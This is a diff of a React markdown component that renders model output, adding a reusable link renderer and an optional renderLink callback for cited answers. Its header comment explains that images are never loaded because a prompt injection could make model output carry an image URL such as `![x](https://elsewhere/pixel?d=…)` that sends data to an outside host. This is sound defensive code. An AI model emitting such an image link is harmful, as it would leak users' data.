@@ -2,22 +2,29 @@
 // literal text. Web links open in a new tab; a link whose address react-markdown emptied (javascript:, data:…) stays plain text.
 // Images are never loaded: `![x](https://elsewhere/pixel?d=…)` in model output (a prompt injection) would make the browser
 // send data to that host, so an image shows as its alt text only.
-import ReactMarkdown, { type Components } from 'react-markdown';
+import type { ComponentProps, ReactNode } from 'react';
+import ReactMarkdown, { type Components, type ExtraProps } from 'react-markdown';
 import { cn } from '@/lib/cn';
 
+type RenderLink = (href: string | undefined, children: ReactNode) => ReactNode | null;
+
+function WebLink({ node: _node, href, children, ...props }: ComponentProps<'a'> & ExtraProps) {
+  return href ? (
+    <a {...props} href={href} target="_blank" rel="noopener noreferrer" className="font-medium text-brand-700 underline underline-offset-2">
+      {children}
+    </a>
+  ) : (
+    <span>{children}</span>
+  );
+}
+
 const components: Components = {
-  a: ({ node: _node, href, children, ...props }) =>
-    href ? (
-      <a {...props} href={href} target="_blank" rel="noopener noreferrer" className="font-medium text-brand-700 underline underline-offset-2">
-        {children}
-      </a>
-    ) : (
-      <span>{children}</span>
-    ),
+  a: WebLink,
   img: ({ alt }) => (alt ? <span className="italic text-slate-600">[{alt}]</span> : null),
 };
 
-export function MarkdownText({ text, className }: { text: string; className?: string }) {
+/** `renderLink` may render a link itself (a cited answer's source marks, cited-answer.tsx); null leaves it to the default. */
+export function MarkdownText({ text, className, renderLink }: { text: string; className?: string; renderLink?: RenderLink }) {
   return (
     <div
       className={cn(
@@ -29,7 +36,9 @@ export function MarkdownText({ text, className }: { text: string; className?: st
         className,
       )}
     >
-      <ReactMarkdown components={components}>{text}</ReactMarkdown>
+      <ReactMarkdown components={renderLink ? { ...components, a: (props) => renderLink(props.href, props.children) ?? <WebLink {...props} /> } : components}>
+        {text}
+      </ReactMarkdown>
     </div>
   );
 }
